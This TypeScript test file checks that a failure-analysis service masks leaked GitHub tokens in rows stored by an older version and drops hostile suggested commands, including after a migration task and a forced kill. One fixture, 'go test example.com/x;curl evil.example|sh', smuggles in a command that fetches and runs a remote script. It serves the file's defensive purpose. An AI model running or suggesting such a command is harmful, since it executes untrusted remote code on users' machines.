import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { renewStored } from '../../src/service/operator/renew-stored.ts';
import { createStore } from '../../src/store/create-store.ts';
import { administratorSettings } from '../support/administrator.ts';
import { storedTenant } from '../support/builders.ts';
import { patience, type TestDatabase, testDatabase } from '../support/database.ts';
import { aTenantWithUser, aToken, type TestServer, testServer } from '../support/http.ts';
import { makeDataDir, removeDataDir, type ServerProcess, startServer } from '../support/server.ts';
import { rowsOfVersions, type StoredRow, storedRows, storeRows } from '../support/stored-rows.ts';

let server: TestServer;
let tenantId: string;
let headers: { authorization: string };
let secret: string;
const fingerprint = `v1:${'d'.repeat(32)}`;
const hostile = 'go test example.com/x;curl evil.example|sh';
const simple = 'go test ./sum';
const note = 'The old password=correct-horse was rotated.';
const details = rowsOfVersions['version 1']?.details as Record<string, unknown>;

beforeAll(async () => {
  server = await testServer();
  const { tenant, user } = await aTenantWithUser(server);
  tenantId = tenant.id;
  ({ headers } = await aToken(server, tenantId, 'read'));
  secret = `ghp_${randomBytes(18).toString('hex')}`;
  const [id = ''] = await storeRows(server.database.superuserUrl, tenantId, [leaky()]);
  const feedback = { id: crypto.randomUUID(), analysisId: id, verdict: 'wrong', category: null, line: null } as const;
  await server.deps.store.inTransaction(tenantId, async (transaction) => {
    await transaction.feedback.give({ ...feedback, note, createdAt: new Date(), createdBy: user.id });
  });
});
afterAll(async () => await server.close());

/** As the last version wrote a failure of which it masked nothing. */
function leaky(): Partial<StoredRow> {
  const said = `login with ${secret} failed`;
  return {
    ...{ fingerprint, title: said, root_cause: said },
    details: {
      ...details,
      ...{ explanation: said, command: `deploy --token ${secret}`, step: said, tool: said, tests: [said] },
      suggested_fix: { summary: said, steps: [said], commands: [simple, hostile, `curl -H ${secret} example.com`] },
      evidence: [{ line: 3, end_line: 4, text: `a line\n${said}`, role: 'cause' }],
      alternatives: [{ title: said, category: 'test', line: 4, confidence: 0.1 }],
      locations: [{ path: said, line: 3, column: null }],
      earlier_resolution: { note, resolved_at: '2026-11-12T08:00:00.000Z' },
    },
  };
}

async function readEverywhere(): Promise<string[]> {
  const day = new Date().toISOString().slice(0, 10);
  const lists = ['analyses', 'causes', `causes/${fingerprint}`, `stats/top-root-causes?until=${day}`, 'feedback'];
  const paths = [...lists.map((path) => `/api/v1/${path}`), '/api/analyses'];
  const answers = await Promise.all(paths.map((url) => server.app.inject({ url, headers })));
  expect(answers.map(({ statusCode }) => statusCode)).toEqual(paths.map(() => 200));
  return answers.map(({ body }) => body);
}

test('what an earlier version stored is masked wherever it is read, at once', async () => {
  const [row] = await storedRows(server.database.superuserUrl);
  expect(JSON.stringify(row)).toContain(secret);

  const bodies = await readEverywhere();

  for (const body of bodies) {
    expect(body).toContain('login with [redacted github-token] failed');
    expect(body).not.toContain(secret);
  }
  const [analysis] = JSON.parse(bodies[0] ?? '').items;
  expect(analysis.suggested_fix.commands).toEqual([simple]);
  expect(analysis.evidence[0].text).toBe('a line\nlogin with [redacted github-token] failed');
  expect(analysis.earlier_resolution.note).toBe(note);
});

test('after the task the table itself holds it masked, and reads say the same', async () => {
  const before = await readEverywhere();

  await renewStored(server.deps);

  const [row] = await storedRows(server.database.superuserUrl);
  expect(JSON.stringify(row)).not.toContain(secret);
  expect(JSON.stringify(row)).not.toContain('evil.example');
  expect(row).toMatchObject({ details_version: 2, title: 'login with [redacted github-token] failed' });
  expect(row?.details).toMatchObject({ earlier_resolution: { note }, suggested_fix: { commands: [simple] } });
  expect(row?.details).toMatchObject({ evidence: [{ line: 3, end_line: 4, role: 'cause' }] });
  expect(await readEverywhere()).toEqual(before);
  expect(server.records).toContainEqual({ renewed: 1, message: 'masked analyses of an earlier version anew' });
});

test('the task changes nothing when it comes again, and nothing of what cannot be read', async () => {
  const broken = {
    ...leaky(),
    fingerprint: `v1:${'e'.repeat(32)}`,
    details: { tests: secret, evidence: [{ text: 7 }] },
  };
  await storeRows(server.database.superuserUrl, tenantId, [broken]);
  await renewStored(server.deps);
  const after = await storedRows(server.database.superuserUrl);

  await renewStored(server.deps);

  expect(await storedRows(server.database.superuserUrl)).toEqual(after);
  expect(after.at(-1)?.details).toMatchObject({ tests: '[redacted github-token]', evidence: [{ text: 7 }] });
});

test('a model that has better words for a row of an earlier version leaves none of it unmasked', async () => {
  const row = { ...leaky(), fingerprint: `v1:${'f'.repeat(32)}` };
  const [id = ''] = await storeRows(server.database.superuserUrl, tenantId, [row]);
  const words = { explanation: 'In better words.', suggested_fix: { summary: 'Rotate it.', steps: [], commands: [] } };

  const explanation = { id, fingerprint: row.fingerprint, ...words, explained_by: 'model:small' };
  expect(await server.deps.store.analyses.reword(tenantId, explanation)).toBe(true);

  const stored = (await storedRows(server.database.superuserUrl)).at(-1);
  expect(JSON.stringify(stored)).not.toContain(secret);
  expect(await server.deps.store.analyses.get(tenantId, id)).toMatchObject(words);
});

test('kill -9 in the midst of it leaves whole rows, and the next start does the rest, of every tenant', async () => {
  const database = await testDatabase();
  const dataDir = await makeDataDir();
  const [one, other] = [await storedTenantIn(database), await storedTenantIn(database)];
  const many = Array.from({ length: 1500 }, (_, at) => ({
    ...leaky(),
    fingerprint: `v1:${String(at).padStart(32, '0')}`,
  }));
  for (const id of [one, other]) await storeRows(database.superuserUrl, id, many);
  const start = async () =>
    await startServer({ dataDir, env: { ...administratorSettings, DATABASE_URL: database.url } });
  let running: ServerProcess = await start();

  await expect.poll(async () => (await left(database)).length, { interval: 20 }).toBeLessThan(2990);
  await running.kill('SIGKILL');
  const between = await left(database);
  expect(between.length).toBeGreaterThan(0);
  expect(between.filter((row) => !JSON.stringify(row).includes(secret))).toEqual([]);
  running = await start();

  await expect.poll(async () => (await left(database)).length, { interval: 200 }).toBe(0);
  const rows = await storedRows(database.superuserUrl);
  expect(rows).toHaveLength(3000);
  expect(rows.filter((row) => JSON.stringify(row).includes(secret))).toEqual([]);
  await running.kill('SIGTERM');
  await removeDataDir(dataDir);
  await database.drop();
});

async function left(database: TestDatabase): Promise<StoredRow[]> {
  return (await storedRows(database.superuserUrl)).filter(({ details_version }) => details_version < 2);
}

async function storedTenantIn({ url }: TestDatabase): Promise<string> {
  const store = createStore(url, patience);
  const { id } = await storedTenant(store);
  await store.close();
  return id;
}
